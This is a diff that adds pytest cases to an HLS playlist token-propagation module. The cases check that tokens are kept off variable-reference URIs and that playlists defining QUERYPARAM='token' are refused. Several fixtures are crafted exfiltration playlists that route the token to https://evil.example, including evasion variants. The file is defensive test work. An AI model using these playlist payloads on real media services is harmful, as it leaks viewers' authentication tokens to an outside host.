@@ -630,6 +630,53 @@ def test_interstitial_assets_render_per_host_and_scheme() -> None:
     assert "token" not in template.render("T", "other.example").decode()
 
 
+@pytest.mark.parametrize(("uri", "tokened"), [
+    # a variable reference is substituted by hls.js and ExoPlayer: the URI requested is not this text
+    ("{$base}/seg.ts", False),
+    ("seg_{$n}.ts", False),
+    ("/hls/{$stream}/seg.ts", False),
+    ("https://media.example.com/{$path}/seg.ts", False),
+    ("seg.ts?cdn={$cdn}", False),
+    ("seg.ts#{$x}", False),
+    # near misses
+    ("seg{1}.ts", True),
+    ("{seg}.ts", True),
+    ("seg$1.ts", True),
+    ("seg{ $x}.ts", True),
+    ("seg$.ts?a={b}", True),
+], ids=lambda value: repr(value))
+def test_a_variable_reference_gets_no_token(uri: str, tokened: bool) -> None:
+    define = '#EXT-X-DEFINE:NAME="base",VALUE="https://evil.example"\n'
+    for line in (uri, f'#EXT-X-MAP:URI="{uri}"'):
+        rendered = propagate_token(f"#EXTM3U\n{define}{line}\n", "TKN", host=HOST)
+        assert ("token=TKN" in rendered) is tokened, rendered
+
+
+@pytest.mark.parametrize("define", [
+    '#EXT-X-DEFINE:QUERYPARAM="token"',
+    '#EXT-X-DEFINE:QUERYPARAM = " token "',
+    "#EXT-X-DEFINE:QUERYPARAM=token",
+    '  #EXT-X-DEFINE:QUERYPARAM="token"',
+    '#EXT-X-DEFINE:QUERYPARAM="{$name}"',
+    '#EXT-X-SESSION-DATA:DATA-ID="#EXT-X-DEFINE:QUERYPARAM="token"',
+])
+def test_a_playlist_that_reads_the_token_from_its_url_is_refused(define: str) -> None:
+    with pytest.raises(ValueError, match="QUERYPARAM"):
+        compile_playlist(f'#EXTM3U\n{define}\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{{$token}}/v.m3u8\n')
+
+
+@pytest.mark.parametrize("define", [
+    '#EXT-X-DEFINE:QUERYPARAM="session"',
+    '#EXT-X-DEFINE:QUERYPARAM="tokens"',
+    '#EXT-X-DEFINE:QUERYPARAM="my-token"',
+    '#EXT-X-DEFINE:NAME="token",VALUE="x"',
+    '#EXT-X-DEFINE:IMPORT="base"',
+])
+def test_other_variable_definitions_are_fine(define: str) -> None:
+    source = f"#EXTM3U\n{define}\n#EXTINF:4,\nseg.ts\n"
+    assert propagate_token(source, "TKN") == source.replace("seg.ts", "seg.ts?token=TKN")
+
+
 # --- bytes that must not move ----------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("source", "expected"), [
